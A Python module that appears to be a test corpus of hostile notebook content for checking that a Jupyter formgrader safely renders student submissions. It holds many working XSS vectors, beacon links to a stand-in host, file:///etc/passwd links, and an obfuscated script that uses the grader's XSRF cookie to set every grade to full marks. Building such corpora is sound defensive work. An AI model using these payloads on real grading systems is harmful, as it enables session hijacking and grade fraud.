"""What a submission may hold to act on whoever looks at it: one entry for each way, as data.

`RUN` is a script that notes that it ran, and `OUT` an address of another host; both tell which
entry it was. `PNG` is a picture, and `MARKS` a script that gives full marks in the formgrader. An entry's `where` says what it is put into:

- `text`: a Markdown cell; `answer`: a written answer, which the formgrader shows beside its own
  buttons; `raw`: a raw cell; `attached`: a Markdown cell with `more` as its attachments;
- `shown`: an output, a bundle of one thing in several kinds, with `more` as its metadata;
- `printed`: what a cell prints; `raised`: the message of an error;
- `cell`: metadata of a Markdown cell; `notebook`: metadata of the notebook;
- `message`: of an exception that a tested function raises, which a check's report quotes.
"""

from __future__ import annotations

import base64
import json
import re
from dataclasses import dataclass
from typing import Any

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
FULL_MARKS = """
ran.push("full marks");
fetch(base_url + "/api/grades?submission_id=" + submission_id).then(r => r.json()).then(grades =>
  grades.forEach(grade => fetch(base_url + "/api/grade/" + grade.id, {
    method: "PUT", headers: {"X-XSRFToken": document.cookie.match(/_xsrf=([^;]+)/)[1]},
    body: JSON.stringify({manual_score: grade.max_score})})));
"""
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><script>RUN</script><image href='OUT'/><a href='javascript:RUN'><text y='20'>x</text></a></svg>"


@dataclass(frozen=True)
class Payload:
    """One way to act. `number` is that of its canary and of its address outside."""

    number: int
    where: str
    content: Any
    more: Any
    tries: str

    def __str__(self) -> str:
        return f"{self.number}-{self.where}-{re.sub(r'[^a-z0-9]+', '-', self.tries.lower())[:40]}"


ALL: list[Payload] = []


def _filled(value: Any, number: int) -> Any:
    """The value with the words replaced, also within what is quoted."""
    text = json.dumps(value).replace("RUN", f"ran.push({number})")
    text = text.replace("OUT", f"http://outside.invalid/{number}")
    marks = f"eval(atob(/{base64.b64encode(FULL_MARKS.encode()).decode()}/.source))"
    return json.loads(text.replace("PNG", PNG).replace("MARKS", marks))


def _(where: str, content: Any, tries: str, more: Any = None) -> None:
    number = len(ALL) + 1
    ALL.append(Payload(number, where, _filled(content, number), _filled(more, number), tries))


# -- full marks for who looks ------------------------------------------------------------------

_("shown", {"image/png": "PNG", "text/plain": "x"}, "a width that gives full marks", {"image/png": {"width": "1 onload=MARKS"}})  # fmt: skip
_("text", '<b <img src=x onerror="MARKS">', "a tag in a tag that gives full marks")

# -- scripts and handlers in HTML --------------------------------------------------------------

for _where in ("text", "html"):
    for _content, _tries in (
        ("<script>RUN</script>", "a script"),
        ("<SCRIPT/x>RUN</SCRIPT >", "a script in odd letters"),
        ("<script src=OUT></script>", "a script from elsewhere"),
        ("<scr<script>ipt>RUN</scr</script>ipt>", "a script in pieces, for who removes once"),
        ("<img src=x onerror=RUN>", "an attribute without quotes"),
        ('<b <img src=x onerror="RUN">', "a tag in a tag"),
        ("<b/onmouseover=RUN/style=position:fixed;inset:0>x</b>", "slashes for blanks"),
        ("<img src='x'onerror='RUN'>", "no blank between attributes"),
        ("<img\nsrc=x\tonerror\n=\nRUN>", "line breaks in a tag"),
        ("<img src=x onerror=&#114;&#97;&#110;.push(RUN)>", "entities in a handler"),
        ("<details open ontoggle=RUN>x</details>", "an element that opens itself"),
        ("<input autofocus onfocus=RUN>", "an element that takes the focus"),
        ("<div style='animation:x 1s' onanimationstart=RUN>x</div>", "an animation"),
        ("<video><source onerror=RUN></video><audio src=OUT autoplay>", "sound and film"),
        ("<svg onload=RUN>", "a drawing that loads"),
        ("<svg><script>RUN</script></svg>", "a script in a drawing"),
        ("<svg><animate onbegin=RUN attributeName=x dur=1s>", "an animated drawing"),
        ("<svg><use href='data:image/svg+xml,%3Csvg id=x%3E%3C/svg%3E#x' /><foreignObject><body onload=RUN></svg>", "HTML in a drawing"),
        ("<math href='javascript:RUN'><mtext>x</mtext></math>", "a link in MathML"),
        ("<math><maction actiontype='statusline#OUT' xlink:href='javascript:RUN'>x</maction></math>", "an action in MathML"),
        ("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=RUN&gt;\">", "mutation by MathML"),
        ("<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=RUN src=1>\">", "mutation by forms"),
        ("<svg></p><style><a id=\"</style><img src=1 onerror=RUN>\">", "mutation by a style"),
        ("<noscript><p title=\"</noscript><img src=x onerror=RUN>\">", "mutation by noscript"),
        ("<xmp><p title=\"</xmp><img src=x onerror=RUN>\">", "mutation by xmp"),
        ("<!--><img src=x onerror=RUN>-->", "a comment that ends early"),
        ("<!--!> --!><img src=x onerror=RUN> -->", "a comment that ends oddly"),
        ("<![CDATA[><img src=x onerror=RUN>]]>", "character data"),
        ("<?xml ><img src=x onerror=RUN>?>", "an instruction"),
        ("<template><img src=x onerror=RUN></template><img src=x onerror=RUN>", "a template"),
        ("<select><template shadowrootmode=open><img src=x onerror=RUN></template></select><div><template shadowrootmode=open><img src=x onerror=RUN></template></div>", "a shadow root"),
        ("<title><img src=x onerror=RUN></title><textarea><img src=x onerror=RUN></textarea>", "text that is none elsewhere"),
        ("<iframe srcdoc='<script>parent.RUN;RUN</script>'></iframe>", "a frame with a text of its own"),
        ("<iframe src='javascript:RUN'></iframe><iframe src='data:text/html,<script>RUN</script>'></iframe>", "a frame of an address"),
        ("<object data='data:text/html,<script>RUN</script>'></object><embed src='OUT'>", "objects"),
        ("<meta http-equiv=refresh content='0;url=OUT'>", "a page that goes away by itself"),
        ("<base href='OUT'><link rel=stylesheet href='OUT'><link rel=prefetch href='OUT'><link rel=dns-prefetch href='OUT'>", "a base and links of the head"),
        ("<a ping='OUT' href='#'>x</a><a href='OUT' rel='opener' target='_top' download>x</a>", "a ping, a link to the opener"),
        ("<a href='javascript:RUN' class=click>x</a>", "a script as an address"),
        ("<a href=' &#1;jAvA&Tab;script&colon;RUN' class=click>x</a>", "a script's name in disguise"),
        ("<a href='vbscript:RUN'>x</a><a href='data:text/html,<script>RUN</script>' class=click>x</a>", "other schemes"),
        ("<a href='file:///etc/passwd'>x</a><a href='ms-word:ofe|u|OUT'>x</a><a href='tel:1'>x</a>", "addresses that open a program"),
        ("<a href='/formgrader/?path=/tmp' class=click>x</a><img src='/formgrader/?path=/tmp'>", "an address of the own server that acts"),
        ("<a href='..%2f..%2f..%2fsubmitted/eve/small/small.ipynb' class=click>x</a>", "a file of the submission as a page"),
        ("<form action='javascript:RUN'><button>x</button><button formaction='javascript:RUN'>y</button><input type=image src=OUT></form>", "forms"),
        ("<img src=OUT><img srcset='OUT 1x'><picture><source srcset='OUT'><img src=x></picture>", "pictures from elsewhere"),
        ("<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'><img src='data:text/html;base64,PHNjcmlwdD4='>", "pictures that are none"),
        ("<table background=OUT><td background=OUT>x</table><body background=OUT onload=RUN>", "backgrounds"),
        ("<style>@import 'OUT';*{background:url(OUT)}</style>", "a style sheet"),
        ("<div style='background:url(OUT)'>x</div><div style='list-style:url(OUT)'>x</div><div style='b\\61ckground:u\\72l(OUT)'>x</div>", "an address in a style"),
        ("<div style='background-color:red;border-image:url(OUT);cursor:url(OUT),auto;width:expression(RUN)'>x</div>", "more addresses in a style"),
        ("<div style='position:fixed;inset:0;z-index:9999;background:white;margin:-9000px'>You have full marks</div>", "a cover over the page"),
        ("<div id=submission_id><p id=test_double>x</p><a name=MathJax id=MathJax>y</a></div>", "names that scripts look for"),
        ("<div onclick=RUN data-toggle=tooltip data-html=true title='<img src=x onerror=RUN>'>x</div>", "what Bootstrap looks for"),
        ("<button class='full-credit btn click'>x</button><b class='full-credit click'>more</b><input class=score value=10>", "buttons of the formgrader"),
        ("<script type='text/x-mathjax-config'>RUN</script><script type='math/tex'>\\href{javascript:RUN}{x}</script>", "scripts for MathJax"),
        ("<marquee onstart=RUN>x</marquee><bgsound src=OUT><keygen autofocus onfocus=RUN><isindex type=image src=1 onerror=RUN>", "elements of old"),
        ("<x contenteditable onfocus=RUN autofocus tabindex=1>x</x><x onclick=RUN>y</x>", "elements that nobody knows"),
        ("<p title='\"><img src=x onerror=RUN>'>x</p><img alt='\"><script>RUN</script>' src=x>", "quotes in quotes"),
        ("\x00<scr\x00ipt>RUN</script><img src=x on\x00error=RUN>", "zero bytes"),
        ("<img src=x \u2028onerror=RUN><\u017fcript>RUN</\u017fcript>", "characters that look or fold like others"),
        ("<" * 3000 + "img src=x onerror=RUN>", "many brackets"),
        ("<div>" * 600 + "<img src=x onerror=RUN>", "elements in elements"),
    ):  # fmt: skip
        if _where == "text":
            _("text", _content, _tries)
        else:
            _("shown", {"text/html": _content, "text/plain": "x"}, _tries)

# -- Markdown ----------------------------------------------------------------------------------

for _where in ("text", "answer", "markdown"):
    for _content, _tries in (
        ("[x](javascript:RUN)", "a script as a link"),
        ("[x](<java\nscript:RUN>) [y]( java&#115;cript:RUN 'z') [z](java\\script:RUN)", "a script's name in disguise"),
        ("[x][1]\n\n[1]: javascript:RUN 'x'", "a script as a reference"),
        ("<javascript:RUN> <data:text/html,RUN>", "a script between brackets"),
        ("[x](data:text/html;base64,PHNjcmlwdD4=) [y](vbscript:RUN) [z](file:///etc/passwd)", "other schemes"),
        ("![x](OUT)\n![y][2]\n\n[2]: OUT", "a picture from elsewhere"),
        ("![x](OUT 'a\" onerror=\"RUN')", "a title that ends"),
        ("![x](x\"onerror=\"RUN)", "an address that ends"),
        ("![a\"onerror=\"RUN](data:image/png;base64,PNG)", "a description that ends"),
        ("[link](OUT) OUT www.outside.invalid", "links, whose hosts a browser may look up"),
        ("[x](/formgrader/?path=/tmp) [y](..%2f..%2f..%2fsubmitted%2feve%2fsmall%2fx.html)", "links to the own server"),
        ("```mermaid\ngraph LR; A-->B<img src=x onerror=RUN>; click A href \"javascript:RUN\"\n```", "a diagram, which nbconvert does not escape"),
        ("~~~mermaid x\n%%{init: {'securityLevel':'loose'}}%%\nflowchart LR\nA[<img src=OUT>]\n~~~", "a diagram's picture"),
        ("```html onload=RUN\"><img src=x onerror=RUN>\nx\n```", "the language of code"),
        ("`<img src=x onerror=RUN>` ``<img src=x onerror=RUN>` <img src=x onerror=RUN>``", "code that is none elsewhere"),
        ("\\`<img src=x onerror=RUN>\\`\n\n    <img src=x onerror=RUN>\n\n\t- <img src=x onerror=RUN>", "indented code that is none elsewhere"),
        ("$<img src=x onerror=RUN>$ and $$<img src=x onerror=RUN>$$", "a formula of HTML"),
        ("\\begin{x}<img src=x onerror=RUN>\\end{x} \\\\(<img src=x onerror=RUN>\\\\)", "an environment of HTML"),
        ("@@0@@ $\\href{javascript:RUN}{x}$ @@0@@ @@99@@", "JupyterLab's marks of formulas"),
        ("| a |\n|---|\n| <img src=x onerror=RUN> |\n| `|` <img src=x onerror=RUN> |", "a table"),
        ("# submission_id\n\n# test_double\n\n# \"><img src=x onerror=RUN>", "headings, which become names"),
        ("a\n\n</div></div></div><img src=x onerror=RUN>\n\n<div>\n\n[x](javascript:RUN)", "ends of what it is in"),
        ("<div>\r\r[x](javascript:RUN)\n\u2028\n\x0b\n[y](javascript:RUN)</div>&#13;&#10;&#13;&#10;[z](javascript:RUN)", "lines that end otherwise"),
        ("[^1]\n\n[^1]: <img src=x onerror=RUN>\n\nterm\n: <img src=x onerror=RUN>", "footnotes and definitions"),
        ("<b class=\"full-credit click\">more</b> <i class='no-credit mark-graded click'>x</i>", "the formgrader's buttons"),
    ):  # fmt: skip
        if _where == "markdown":
            _("shown", {"text/markdown": _content, "text/plain": "x"}, _tries)
        else:
            _(_where, _content, _tries)

_(
    "raw",
    "<script>RUN</script><img src=x onerror=RUN>",
    "a raw cell, which nbconvert takes for HTML",
)

# -- formulas ----------------------------------------------------------------------------------

for _tex, _tries in (
    (r"\href{javascript:RUN}{click}", "a link in a formula"),
    (r"\href{OUT}{click} \url{OUT}", "a link to elsewhere in a formula"),
    (r"\style{background:url(OUT)}{x} \class{full-credit}{x} \cssId{test_double}{x}", "CSS in a formula"),
    (r"\require{action} \toggle{a}{b}\endtoggle \mathtip{x}{y}", "a formula that loads an extension"),
    (r"\def\x{\href}\x{javascript:RUN}{y} \let\y\href \y{javascript:RUN}{z}", "a command by another name"),
    (r"\newcommand{\z}[1]{\href{javascript:RUN}{#1}} \z{x}", "a command of its own"),
    (r"\unicode[x;background:url(OUT)]{65} \bbox[background:url(OUT)]{x}", "a font's name"),
    (r"\text{<img src=x onerror=RUN>} \mbox{$\href{javascript:RUN}{x}$}", "text in a formula"),
    (r"\mmlToken{mtext}[href=javascript:RUN]{x} \data{a=b}{x}", "an element of MathML"),
    (r"\includegraphics{OUT} \html{<img src=x onerror=RUN>}", "a picture in a formula"),
):  # fmt: skip
    _("text", f"${_tex}$ and $${_tex}$$ and <span>\\\\({_tex}\\\\)</span> {_tex}", _tries)
    _("shown", {"text/latex": f"${_tex}$", "text/html": f"<b>${_tex}$ \\({_tex}\\)</b>"}, _tries)
    _("shown", {"text/latex": f"$${_tex}$$"}, _tries)
    _("message", f"$${_tex}$$", _tries)

# -- outputs -----------------------------------------------------------------------------------

for _tries, _metadata in (
    ("a width that is an attribute", {"image/png": {"width": "1 onload=RUN", "height": 5}}),
    ("a height that is an attribute", {"image/png": {"height": "1 onload=RUN"}}),
    ("a width of other types", {"image/png": {"width": ["1 onload=RUN"], "height": {"a": 1}}}),
    ("a width at the top", {"width": "1 onload=RUN", "height": "2 onload=RUN"}),
    ("a description that ends", {"image/png": {"alt": '"><img src=x onerror=RUN>'}}),
    ("a picture of another name", {"filenames": {"image/png": "OUT"}}),
    ("a file's name that ends", {"filenames": {"image/png": '"><img src=x onerror=RUN>'}}),
    ("an unconfined picture", {"image/png": {"unconfined": "x onload=RUN"}, "unconfined": "y"}),
):
    _("shown", {"image/png": "PNG", "text/plain": "x"}, _tries, _metadata)
    _("shown", {"image/jpeg": "/9j/4AAQSkZJRg==", "text/plain": "x"}, _tries,
      json.loads(json.dumps(_metadata).replace("image/png", "image/jpeg")))  # fmt: skip
for _tries, _bundle, _metadata in (
    ("a picture that is none", {"image/png": "x\" onerror=\"RUN"}, None),
    ("HTML for a picture", {"image/png": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="}, None),
    ("a drawing", {"image/svg+xml": SVG}, None),
    ("a drawing's file", {"image/svg+xml": SVG}, {"filenames": {"image/svg+xml": "OUT"}}),
    ("HTML in a frame", {"text/html": "<script>RUN</script>x"}, {"text/html": {"isolated": True}, "isolated": True}),
    ("a script as it is", {"application/javascript": "RUN"}, None),
    ("a script by other names", {"text/javascript": "RUN", "application/x-javascript": "RUN", "application/ecmascript": "RUN"}, None),
    ("a kind that ends", {"text/html\"><img src=x onerror=RUN>": "x", "application/<img src=x onerror=RUN>": "x"}, None),
    ("a widget", {"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2, "x": "</script><img src=x onerror=RUN>"}}, None),
    ("a widget by another case", {"application/vnd.Jupyter.widget-view+json": {"model_id": "x"}}, None),
    ("a map", {"application/geo+json": {"type": "Point", "coordinates": [0, 0]}}, {"application/geo+json": {"url_template": "OUT/{z}/{x}/{y}"}}),
    ("a chart", {"application/vnd.vegalite.v5+json": {"data": {"url": "OUT"}, "mark": "bar"}, "application/vnd.vega.v5+json": {"data": [{"name": "a", "url": "OUT"}]}}, None),
    ("a plot", {"application/vnd.plotly.v1+json": {"data": [], "layout": {"images": [{"source": "OUT"}]}}}, None),
    ("a diagram", {"text/vnd.mermaid": "graph LR; A[<img src=OUT onerror=RUN>]"}, None),
    ("a book", {"application/pdf": "JVBERi0xLjQK"}, None),
    ("data", {"application/json": {"a": "<img src=x onerror=RUN>"}}, {"application/json": {"expanded": True}}),
    ("a report of its own", {"application/vnd.course.checks+json": {"exercise": "<script>RUN</script>"}, "text/html": "<section class=course-checks onclick=RUN>40 of 40</section>"}, None),
    ("values that are not text", {"text/html": ["<img src=x ", "onerror=RUN>"], "text/plain": ["a", "b"]}, None),
    ("values that are objects", {"text/html": {"a": "<img src=x onerror=RUN>"}, "image/png": [1], "text/plain": "x"}, None),
    ("escapes of a terminal", {"text/plain": "\x1b]8;;OUT\x1b\\x\x1b]8;;\x1b\\ \x1b[2J\x1b]0;title\x07<img src=x onerror=RUN>"}, None),
    ("tables of a library", {"text/html": "<table class='dataframe full-credit' border=1 onmouseover=RUN><tr><td style='background:url(OUT)'>1</td></tr></table>"}, None),
):  # fmt: skip
    _("shown", _bundle, _tries, _metadata)

_("printed", "<script>RUN</script><img src=x onerror=RUN>", "HTML as it is")
_(
    "printed",
    '\x1b[31m<img src=x onerror=RUN>\x1b[0m \x1b[38;5;1"onmouseover=RUNm\x1b]8;;javascript:RUN\x07x\x1b]8;;\x07',
    "escapes of a terminal",
)
_("printed", "http://outside.invalid/\"onmouseover=RUN file:///etc/passwd javascript:RUN", "addresses")  # fmt: skip
_("raised", "<img src=x onerror=RUN>\x1b[31m\"'><script>RUN</script>\x1b]8;;OUT\x07y", "an error's message")  # fmt: skip
_("message", "</code></section><img src=x onerror=RUN><script>RUN</script>`<img src=x onerror=RUN>`", "a check's report")  # fmt: skip
_("message", "\x1b[2J\u202e<a href=javascript:RUN>x</a>\x00", "escapes in a check's report")

# -- attachments and metadata ------------------------------------------------------------------

for _tries, _content, _attachments in (
    ("a drawing", "![x](attachment:a.svg)", {"a.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"}}),
    ("text for a drawing", "![x](attachment:a.svg)", {"a.svg": {"image/svg+xml": SVG}}),
    ("HTML for a picture", "![x](attachment:a)", {"a": {"text/html": "<script>RUN</script>"}}),
    ("data that ends", "![x](attachment:a.png)", {"a.png": {"image/png": "x\"onerror=\"RUN"}}),
    ("a kind that ends", "![x](attachment:a.png)", {"a.png": {"image/png\"onerror=\"RUN": "x"}}),
    ("a name that ends", "![x](attachment:a\"onerror=\"RUN)", {"a\"onerror=\"RUN": {"image/png": "PNG"}}),
    ("one that is not there", "![x](attachment:gone.png)", {"a.png": {"image/png": "PNG"}}),
    ("none at all", "![x](attachment:gone.png) ![y](attachment:)", {}),
    ("an empty one", "![x](attachment:a.png)", {"a.png": {}}),
    ("one that nobody names", "x", {"b.html": {"text/html": "<script>RUN</script>"}}),
):  # fmt: skip
    _("attached", _content, _tries, _attachments)

for _tries, _metadata in (
    ("tags", {"tags": ["\"><img src=x onerror=RUN>", "a onclick=RUN", "raises-exception"]}),
    ("nbgrader's marks", {"nbgrader": {"grade_id": "\"><img src=x onerror=RUN>", "grade": True, "solution": True, "locked": False, "points": "<img src=x onerror=RUN>", "schema_version": 3}}),
    ("a description", {"alt": "\"><img src=x onerror=RUN>", "name": "<img src=x onerror=RUN>"}),
    ("a format", {"raw_mimetype": "text/html", "format": "text/html", "transient": {"remove_source": True}}),
    ("slides", {"slideshow": {"slide_type": "\"><img src=x onerror=RUN>"}, "jupyter": {"source_hidden": "<img src=x onerror=RUN>"}}),
):  # fmt: skip
    _("cell", _metadata, _tries)
for _tries, _metadata in (
    ("the kernel's names", {"kernelspec": {"name": "../../x", "display_name": "<img src=x onerror=RUN>", "language": "\"><img src=x onerror=RUN>"}}),
    ("the language", {"language_info": {"name": "<img src=x onerror=RUN>", "pygments_lexer": "html", "codemirror_mode": {"name": "javascript:RUN"}, "mimetype": "text/html"}}),
    ("the title", {"title": "</title><script>RUN</script>", "authors": [{"name": "<img src=x onerror=RUN>"}]}),
    ("widgets", {"widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": {"model_name": "</script><img src=x onerror=RUN>", "model_module": "OUT"}}, "version_major": 2, "version_minor": 0}}}),
    ("our own", {"course": {"reason": {"code": "not_json", "parts": {"why": "<img src=x onerror=RUN>"}}, "notes": ["<img src=x onerror=RUN>", {"code": "found_as", "parts": {"names": ["<img src=x onerror=RUN>", "[x](javascript:RUN)"]}}], "title": "<script>RUN</script>"}}),
):  # fmt: skip
    _("notebook", _metadata, _tries)


# -- in a notebook -----------------------------------------------------------------------------


def output(payload: Payload) -> dict[str, Any] | None:
    """What a cell that acts so shows, as nbformat has it; None where it shows nothing."""
    if payload.where == "shown":
        more = payload.more or {}
        return {"output_type": "display_data", "data": payload.content, "metadata": more}
    if payload.where == "printed":
        return {"output_type": "stream", "name": "stdout", "text": payload.content}
    if payload.where == "raised":
        names = {"ename": payload.content, "evalue": payload.content}
        return {"output_type": "error", "traceback": [payload.content], **names}
    return None


def code(payload: Payload) -> str:
    """A cell that shows it, so that it comes out of the kernel as it would of any."""
    if payload.where == "shown":
        metadata = f"metadata={payload.more!r}"
        return f"from IPython.display import display\ndisplay({payload.content!r}, raw=True, {metadata})"
    if payload.where == "printed":
        return f"print({payload.content!r})"
    if payload.where == "raised":
        return f"raise type({payload.content!r}, (Exception,), {{}})({payload.content!r})"
    return "pass"


def cell(payload: Payload, *, run: bool = False) -> dict[str, Any] | None:
    """A cell of a notebook that holds it; None where it belongs to no cell.

    Args:
        run: with what it shows, too.
    """
    base = {"id": f"payload-{payload.number}", "metadata": {}}
    if payload.where in ("text", "answer", "raw"):
        kind = "raw" if payload.where == "raw" else "markdown"
        return {**base, "cell_type": kind, "source": payload.content}
    if payload.where == "attached":
        made = {**base, "cell_type": "markdown", "source": payload.content}
        return {**made, "attachments": payload.more}
    if payload.where == "cell":
        return {**base, "cell_type": "markdown", "source": "x", "metadata": payload.content}
    shown = output(payload)
    if shown is None:
        return None
    made = {**base, "cell_type": "code", "source": code(payload), "execution_count": None}
    return {**made, "outputs": [shown] if run else []}


# What students write that is not hostile, and stays as it is.
HONEST = f"""
# What I found

The **cost** is *low*, ~~high~~, `a < b`, with $a < b$ & $$\\frac{{1}}{{m}}$$ and \\$5 of \\$6.

<div class="alert alert-info" role="alert">

Result <span style="color: red; font-family: 'Arial'">good</span> H<sub>2</sub>O

</div>

| rate | cost |
|---|--:|
| 0.1 | $x_1$ |

1. one
   - two

> quoted

```python
def f(x):

    return x < 3  # "so"
```

<img src="data:image/png;base64,{PNG}" alt="a curve" width=50% /> <br/>
<details open><summary>More</summary> text </details>

\\begin{{align}}
x &= 1 \\\\
y &= 2
\\end{{align}}

[a link](https://example.org/?a=1&b=2) and <https://example.org/>
"""
